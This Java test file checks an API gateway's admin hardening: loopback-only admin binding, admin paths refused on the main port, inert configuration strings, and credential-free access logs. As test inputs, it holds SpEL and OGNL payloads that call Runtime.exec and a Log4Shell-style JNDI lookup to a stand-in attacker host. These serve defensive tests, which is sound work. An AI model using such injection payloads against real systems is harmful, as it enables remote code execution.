package io.portcullis.lifecycle;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import ch.qos.logback.classic.Logger;
import ch.qos.logback.classic.LoggerContext;
import ch.qos.logback.classic.spi.ILoggingEvent;
import ch.qos.logback.core.read.ListAppender;
import io.portcullis.config.ConfigException;
import io.portcullis.config.ConfigLoader;
import io.portcullis.config.GatewayConfig;
import io.portcullis.configfile.ConfigFiles;
import io.portcullis.testkit.AdminProbe;
import io.portcullis.testkit.Await;
import io.portcullis.testkit.Closer;
import io.portcullis.testkit.FakeBackend;
import io.portcullis.testkit.GatewayClient;
import io.portcullis.testkit.RawHttp;
import io.portcullis.testkit.TestGateway;
import io.vertx.core.json.JsonArray;
import io.vertx.core.json.JsonObject;
import java.io.IOException;
import java.net.ConnectException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.NetworkInterface;
import java.net.ServerSocket;
import java.net.Socket;
import java.net.SocketTimeoutException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.Locale;
import java.util.Set;
import java.util.UUID;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.function.Function;
import org.junit.jupiter.api.Assumptions;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.slf4j.LoggerFactory;

/**
 * The admin surface stays private and the configuration stays inert (README "Configuration reference", "Endpoints" and "Logs"): the
 * admin listener binds loopback unless told otherwise; the main port never serves metrics or
 * {@code /admin/*}, it routes those paths like any other; configuration strings are never
 * evaluated as expressions; and the access log holds only its nine fields, never a credential.
 */
class AdminHardeningTest {

  @RegisterExtension
  final Closer toClose = new Closer();


  private <T extends AutoCloseable> T closeLater(T closeable) {
    toClose.add(closeable);
    return closeable;
  }

  private static JsonObject upstream(int port) {
    return new JsonObject().put("endpoints", new JsonArray().add("http://127.0.0.1:" + port));
  }

  private static JsonObject route(String name, String pathPrefix, String upstream) {
    return new JsonObject().put("name", name).put("match", new JsonObject().put("pathPrefix", pathPrefix))
        .put("upstream", upstream);
  }

  /** A config with one upstream {@code backend} and the given routes. */
  private static JsonObject config(int backendPort, JsonObject... routes) {
    JsonArray list = new JsonArray();
    for (JsonObject r : routes) {
      list.add(r);
    }
    return new JsonObject().put("upstreams", new JsonObject().put("backend", upstream(backendPort))).put("routes", list);
  }

  private static GatewayConfig parse(JsonObject config) {
    try {
      return ConfigFiles.parse(config.encode(), name -> null);
    } catch (ConfigException e) {
      throw new AssertionError("config invalid:\n" + e.getMessage(), e);
    }
  }

  // ------------------------------------------------------------------ the admin listener's address

  @Test
  void adminBindsLoopbackByDefault() {
    GatewayConfig config = parse(config(9001, route("api", "/api", "backend")));

    assertThat(config.admin().host()).isEqualTo("127.0.0.1");
    assertThat(config.admin().port()).isEqualTo(9901);
    // The main listener is public by default; the admin one is not (different defaults on purpose).
    assertThat(config.server().host()).isEqualTo("0.0.0.0");
    assertThat(ConfigLoader.toJson(config).getJsonObject("admin").getString("host")).isEqualTo("127.0.0.1");
  }

  /**
   * A real gateway whose {@code admin.host} is left at its default (not through TestGateway,
   * which sets it): the admin socket listens on 127.0.0.1 only.
   */
  @Test
  void aRunningAdminListenerWithTheDefaultHostIsReachableOnLoopbackOnly() throws Exception {
    FakeBackend backend = closeLater(FakeBackend.ok("backend"));
    JsonObject json = config(backend.port(), route("api", "/api", "backend"))
        .put("server", new JsonObject().put("host", "127.0.0.1").put("port", 0).put("instances", 1))
        .put("admin", new JsonObject().put("port", 0)) // host: the default
        .put("shutdown", new JsonObject().put("drainMs", 0).put("graceMs", 1000))
        .put("accessLog", new JsonObject().put("enabled", false));
    GatewayConfig config = parse(json);
    assertThat(config.admin().host()).isEqualTo("127.0.0.1");
    Gateway gateway = Await.result(Gateway.start(config, false));
    closeLater(() -> {
      Await.result(gateway.shutdown(), 30_000);
      Await.result(gateway.closeVertx(), 20_000);
    });
    int adminPort = gateway.adminPort();

    // Reachable on loopback.
    RawHttp.Reply live = RawHttp.exchange(adminPort,
        "GET /healthz/live HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n", 5_000);
    assertThat(live.status()).isEqualTo(200);

    // The kernel's own view: every listening socket on the admin port is bound to 127.0.0.1.
    List<String> listeners = listeningAddresses(adminPort);
    if (!listeners.isEmpty()) {
      assertThat(listeners).as("local addresses listening on the admin port").allMatch(a ->
          a.equals("0100007F") || a.equals("0000000000000000FFFF00000100007F"));
    }

    // Unreachable on every other address of this machine (checked against a wildcard listener,
    // so that an address nothing can be reached on does not pass for a refused one).
    List<InetAddress> others = nonLoopbackAddresses();
    Assumptions.assumeFalse(others.isEmpty() && listeners.isEmpty(),
        "no non-loopback address on this machine and no /proc/net/tcp: nothing to check against");
    int checked = 0;
    try (ServerSocket wildcard = new ServerSocket(0)) {
      for (InetAddress address : others) {
        if (!connects(address, wildcard.getLocalPort())) {
          continue; // not reachable even when listening on every address: proves nothing
        }
        assertThat(connects(address, adminPort))
            .as("admin port %d reachable on %s", adminPort, address.getHostAddress()).isFalse();
        checked++;
      }
    }
    Assumptions.assumeTrue(checked > 0 || !listeners.isEmpty(),
        "no non-loopback address of this machine accepts connections: nothing to check against");
  }

  /** Every up, non-loopback address of this machine. */
  private static List<InetAddress> nonLoopbackAddresses() throws IOException {
    List<InetAddress> addresses = new ArrayList<>();
    for (NetworkInterface nic : Collections.list(NetworkInterface.getNetworkInterfaces())) {
      if (!nic.isUp() || nic.isLoopback()) {
        continue;
      }
      for (InetAddress address : Collections.list(nic.getInetAddresses())) {
        if (!address.isLoopbackAddress() && !address.isAnyLocalAddress()) {
          addresses.add(address);
        }
      }
    }
    return addresses;
  }

  private static boolean connects(InetAddress address, int port) {
    try (Socket socket = new Socket()) {
      socket.connect(new InetSocketAddress(address, port), 1_000);
      return true;
    } catch (ConnectException | SocketTimeoutException refusedOrDropped) {
      return false;
    } catch (IOException other) {
      return false;
    }
  }

  /** Hex local addresses of the LISTEN sockets on {@code port} (Linux /proc/net), else empty. */
  private static List<String> listeningAddresses(int port) throws IOException {
    List<String> addresses = new ArrayList<>();
    String hexPort = String.format("%04X", port);
    for (String table : List.of("/proc/net/tcp", "/proc/net/tcp6")) {
      Path path = Path.of(table);
      if (!Files.isReadable(path)) {
        continue;
      }
      for (String line : Files.readAllLines(path)) {
        String[] fields = line.trim().split("\\s+");
        if (fields.length > 3 && fields[3].equals("0A") && fields[1].endsWith(":" + hexPort)) {
          addresses.add(fields[1].substring(0, fields[1].indexOf(':')).toUpperCase(Locale.ROOT));
        }
      }
    }
    return addresses;
  }

  // ------------------------------------------------------------------ admin paths on the main port

  private static final List<String> ADMIN_PATHS = List.of("/metrics", "/admin/upstreams", "/admin/routes");

  /** Other spellings of the admin paths: none of them may reach an admin function either. */
  private static final List<String> ADMIN_SPELLINGS = List.of("/metrics/", "/metrics?name=x", "/Metrics",
      "//metrics", "/./metrics", "/api/../metrics", "/%6Detrics", "/admin/%72outes", "/admin//routes",
      "/admin/routes/", "/admin/upstreams?format=json", "/admin", "/admin/");

  private static RawHttp.Reply get(int port, String target) throws IOException {
    return RawHttp.exchange(port, "GET " + target + " HTTP/1.1\r\nHost: gateway\r\nConnection: close\r\n\r\n", 5_000);
  }

  private static String body(RawHttp.Reply reply) {
    int start = reply.text().indexOf("\r\n\r\n");
    return start < 0 ? "" : reply.text().substring(start + 4);
  }

  /** What only the admin server writes: Prometheus text, the upstream and route views. */
  private static void assertNoAdminContent(String target, RawHttp.Reply reply) {
    assertThat(reply.text()).as("reply to %s", target)
        .doesNotContain("# HELP", "# TYPE", "portcullis_requests_total", "jvm_", "\"routeBreakers\"",
            "\"retryBudget\"", "\"circuit\"", "\"effective\"");
  }

  @Test
  void withoutAMatchingRouteTheAdminPathsAreNoRouteOnTheMainPort() throws IOException {
    FakeBackend backend = closeLater(FakeBackend.ok("backend"));
    TestGateway gateway = closeLater(TestGateway.start(config(backend.port(), route("api", "/api", "backend"))));

    for (String path : ADMIN_PATHS) {
      RawHttp.Reply reply = get(gateway.port(), path);
      assertThat(reply.status()).as(path).isEqualTo(404);
      assertThat(new JsonObject(body(reply)).getString("error")).as(path).isEqualTo("no_route");
      assertNoAdminContent(path, reply);
    }
    for (String target : ADMIN_SPELLINGS) {
      RawHttp.Reply reply = get(gateway.port(), target);
      assertThat(reply.status()).as(target).isIn(400, 404);
      assertNoAdminContent(target, reply);
    }
    assertThat(backend.requests()).isZero();

    // The admin port does serve them (the same gateway, so the checks above are not vacuous).
    assertThat(AdminProbe.metrics(gateway.adminPort())).contains("portcullis_requests_total");
    assertThat(AdminProbe.get(gateway.adminPort(), "/admin/routes")).contains("\"effective\"");
    assertThat(AdminProbe.get(gateway.adminPort(), "/admin/upstreams")).contains("\"circuit\"");
  }

  @Test
  void underACatchAllRouteTheAdminPathsGoToTheBackend() throws IOException {
    FakeBackend backend = closeLater(FakeBackend.start(req -> req.response()
        .putHeader("Content-Type", "text/plain").end("backend saw " + req.uri())));
    TestGateway gateway = closeLater(TestGateway.start(TestGateway.proxyConfig(null, backend.port())));

    for (String path : ADMIN_PATHS) {
      RawHttp.Reply reply = get(gateway.port(), path);
      assertThat(reply.status()).as(path).isEqualTo(200);
      assertThat(body(reply)).as(path).isEqualTo("backend saw " + path);
      assertNoAdminContent(path, reply);
    }
    for (String target : ADMIN_SPELLINGS) {
      RawHttp.Reply reply = get(gateway.port(), target);
      assertNoAdminContent(target, reply);
      if (reply.status() == 200) {
        assertThat(body(reply)).as(target).startsWith("backend saw ");
      }
    }
    assertThat(backend.seen()).extracting(FakeBackend.Seen::uri).containsAll(ADMIN_PATHS);
  }

  // ------------------------------------------------------------------ no expression evaluation

  private static final String SPEL = "#{T(java.lang.Runtime).getRuntime().exec('touch MARKER')}";
  private static final String OGNL = "%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('touch MARKER'))}";
  private static final String JNDI = "${jndi:ldap://x}";
  private static final String ENV_HINT = ": the name must match [A-Za-z_][A-Za-z0-9_]*, optionally followed by"
      + " \":-default\" (write \"$${\" for a literal \"${\")";

  @Test
  void expressionsInConfigStringsAreInertLiterals() throws IOException {
    Path marker = Path.of("/tmp", "pwned-" + UUID.randomUUID());
    String spel = SPEL.replace("MARKER", marker.toString());
    String ognl = OGNL.replace("MARKER", marker.toString());
    FakeBackend backend = closeLater(FakeBackend.ok("backend"));
    // Route names take any string: these are kept as written, and nothing runs.
    JsonObject json = config(backend.port(), route(spel, "/spel", "backend"), route(ognl, "/ognl", "backend"),
        route("$" + JNDI, "/jndi", "backend")); // "$${" is a literal "${"
    List<String> looked = new CopyOnWriteArrayList<>();
    GatewayConfig config;
    try {
      config = ConfigFiles.parse(json.encode(), name -> {
        looked.add(name);
        return null;
      });
    } catch (ConfigException e) {
      throw new AssertionError(e.getMessage(), e);
    }
    assertThat(config.routes()).extracting(r -> r.name()).containsExactly(spel, ognl, JNDI);
    assertThat(looked).isEmpty();
    // The effective configuration writes them back so that they read the same again.
    assertThat(ConfigLoader.toJson(config).getJsonArray("routes").getJsonObject(2).getString("name"))
        .isEqualTo("$" + JNDI);

    TestGateway gateway = closeLater(TestGateway.start(json));
    try (GatewayClient client = GatewayClient.create(false)) {
      for (String path : List.of("/spel", "/ognl", "/jndi")) {
        GatewayClient.Reply reply = client.get(gateway.port(), path);
        assertThat(reply.status()).as(path).isEqualTo(200);
        assertThat(reply.body()).isEqualTo("backend");
      }
    }
    // The admin view shows them as data (a "${" in the configuration's own syntax, "$${").
    JsonArray routes = new JsonObject(AdminProbe.get(gateway.adminPort(), "/admin/routes")).getJsonArray("routes");
    assertThat(routes.getJsonObject(0).getString("name")).isEqualTo(spel);
    assertThat(routes.getJsonObject(1).getString("name")).isEqualTo(ognl);
    assertThat(routes.getJsonObject(2).getString("name")).isIn(JNDI, "$" + JNDI);
    assertThat(AdminProbe.metrics(gateway.adminPort())).contains("route=\"" + JNDI + "\"");
    assertThat(marker).doesNotExist();
  }

  /**
   * /admin/routes shows each route's effective policies. AdminVerticle looks them up by the name
   * as {@code ConfigLoader.toJson} writes it, where a {@code ${} is escaped to {@code $${}, so a
   * route whose name holds {@code ${} shows none.
   */
  @Test
  void theAdminViewShowsTheEffectivePolicyOfARouteWhoseNameHoldsADollarBrace() {
    FakeBackend backend = closeLater(FakeBackend.ok("backend"));
    TestGateway gateway = closeLater(TestGateway.start(config(backend.port(),
        route("plain", "/plain", "backend"), route("$" + JNDI, "/jndi", "backend"))));
    JsonArray routes = new JsonObject(AdminProbe.get(gateway.adminPort(), "/admin/routes")).getJsonArray("routes");
    assertThat(routes.getJsonObject(0).getJsonObject("effective")).isNotEmpty();
    assertThat(routes.getJsonObject(1).getJsonObject("effective"))
        .isEqualTo(routes.getJsonObject(0).getJsonObject("effective"));
  }

  @Test
  void aJndiLookupIsAMalformedEnvironmentReference() {
    List<String> looked = new CopyOnWriteArrayList<>();
    Function<String, String> env = name -> {
      looked.add(name);
      return "http://127.0.0.1:1";
    };
    JsonObject json = config(9001, route(JNDI, "/api", "backend"));
    json.getJsonObject("upstreams").getJsonObject("backend")
        .put("endpoints", new JsonArray().add("${jndi:ldap://attacker.example/a}").add("${jndi:-http://h:1}"));
    json.put("deadline", new JsonObject().put("header", "${env:X}"));

    ConfigException e = catchThrowableOfType(ConfigException.class, () -> ConfigFiles.parse(json.encode(), env));

    assertThat(e).isNotNull();
    assertThat(e.errors()).containsExactly( // in document order: upstreams, routes, deadline
        "upstreams.backend.endpoints[0]: invalid environment reference \"${jndi:ldap://attacker.example/a}\"" + ENV_HINT,
        "routes[0].name: invalid environment reference \"${jndi:ldap://x}\"" + ENV_HINT,
        "deadline.header: invalid environment reference \"${env:X}\"" + ENV_HINT);
    // "${jndi:-...}" is the variable "jndi" with a default, like any other: looked up, not resolved.
    assertThat(looked).containsExactly("jndi");
  }

  @Test
  void expressionsWhereTheSyntaxIsStrictAreConfigErrors() {
    Path marker = Path.of("/tmp", "pwned-" + UUID.randomUUID());
    String spel = SPEL.replace("MARKER", marker.toString());
    JsonObject json = config(9001, route("r", spel, "backend"));
    json.put("deadline", new JsonObject().put("header", "%{1+1}"));
    json.getJsonObject("upstreams").getJsonObject("backend").put("endpoints", new JsonArray().add(spel));

    ConfigException e = catchThrowableOfType(ConfigException.class, () -> ConfigFiles.parse(json.encode(), n -> null));

    assertThat(e).isNotNull();
    assertThat(e.errors()).containsExactly( // in document order: upstreams, routes, deadline
        "upstreams.backend.endpoints[0]: must be an http(s) URL like \"http://host:port\", got \""
            + spel.substring(0, 76) + "...", // values are shown up to 80 characters
        "routes[0].match.pathPrefix: must start with \"/\", got \"" + spel + "\"",
        "deadline.header: must be an HTTP header field name (token), got \"%{1+1}\"");
    assertThat(marker).doesNotExist();
  }

  // ------------------------------------------------------------------ access log

  private static JsonObject lineOf(List<ILoggingEvent> lines, String requestId) {
    return lines.stream().map(l -> new JsonObject(l.getFormattedMessage()))
        .filter(json -> requestId.equals(json.getString("requestId"))).findFirst()
        .orElseThrow(() -> new AssertionError("no access log line for " + requestId));
  }

  private static final Set<String> ACCESS_LOG_FIELDS =
      Set.of("ts", "requestId", "method", "path", "route", "status", "durationMs", "upstream", "endpoint", "attempts",
          "clientIp", "bytesIn", "bytesOut", "error", "traceId");

  @Test
  void theAccessLogHasItsFieldsAndNoCredentials() throws Exception {
    LoggerContext context = (LoggerContext) LoggerFactory.getILoggerFactory();
    Logger access = context.getLogger("portcullis.access");
    Logger root = context.getLogger(org.slf4j.Logger.ROOT_LOGGER_NAME);
    ListAppender<ILoggingEvent> accessLines = new ListAppender<>();
    ListAppender<ILoggingEvent> otherLines = new ListAppender<>();
    for (ListAppender<ILoggingEvent> appender : List.of(accessLines, otherLines)) {
      appender.setContext(context);
      appender.start();
    }
    access.addAppender(accessLines);
    root.addAppender(otherLines);
    try {
      FakeBackend backend = closeLater(FakeBackend.ok("backend"));
      TestGateway gateway = closeLater(TestGateway.start(config(backend.port(), route("api", "/api", "backend"))
          .put("accessLog", new JsonObject().put("enabled", true))));
      String secrets = "Authorization: Bearer s3cr3t\r\nCookie: sid=c00kie\r\nProxy-Authorization: Basic cHJveHk6czNjcjN0\r\n";

      RawHttp.Reply routed = RawHttp.exchange(gateway.port(),
          "GET /api/users?token=x HTTP/1.1\r\nHost: gateway\r\nX-Request-Id: req-1\r\n" + secrets
              + "Connection: close\r\n\r\n", 5_000);
      RawHttp.Reply unrouted = RawHttp.exchange(gateway.port(),
          "POST /nowhere HTTP/1.1\r\nHost: gateway\r\nX-Request-Id: req-2\r\n" + secrets
              + "Content-Length: 0\r\nConnection: close\r\n\r\n", 5_000);
      assertThat(routed.status()).isEqualTo(200);
      assertThat(unrouted.status()).isEqualTo(404);
      assertThat(backend.seen()).singleElement().satisfies(seen ->
          assertThat(seen.header("Authorization")).isEqualTo("Bearer s3cr3t")); // passed on, not logged

      long deadline = System.nanoTime() + 5_000_000_000L;
      while (accessLines.list.size() < 2 && System.nanoTime() < deadline) {
        Thread.sleep(20);
      }
      List<ILoggingEvent> lines = List.copyOf(accessLines.list);
      assertThat(lines).hasSize(2);
      for (ILoggingEvent line : lines) {
        String text = line.getFormattedMessage();
        JsonObject json = new JsonObject(text);
        assertThat(json.fieldNames()).as(text).containsExactlyInAnyOrderElementsOf(ACCESS_LOG_FIELDS);
        assertThat(text).doesNotContain("s3cr3t", "c00kie", "cHJveHk6czNjcjN0", "Bearer", "sid=");
        assertThat(line.getArgumentArray()).isNullOrEmpty();
      }
      JsonObject first = lineOf(lines, "req-1");
      JsonObject second = lineOf(lines, "req-2");
      assertThat(first.getString("requestId")).isEqualTo("req-1");
      assertThat(first.getString("method")).isEqualTo("GET");
      assertThat(first.getString("route")).isEqualTo("api");
      assertThat(first.getInteger("status")).isEqualTo(200);
      assertThat(first.getString("upstream")).isEqualTo("backend");
      assertThat(second.getString("requestId")).isEqualTo("req-2");
      assertThat(second.getInteger("status")).isEqualTo(404);
      assertThat(second.getString("route")).isNull();
      assertThat(first.getString("error")).isNull();
      assertThat(second.getString("error")).isEqualTo("no_route");
      assertThat(second.getString("endpoint")).isNull();
      // Nor in any other log line of the gateway while it served them.
      for (ILoggingEvent line : List.copyOf(otherLines.list)) {
        assertThat(line.getFormattedMessage()).doesNotContain("s3cr3t", "c00kie", "cHJveHk6czNjcjN0");
      }
    } finally {
      access.detachAppender(accessLines);
      root.detachAppender(otherLines);
    }
  }
}
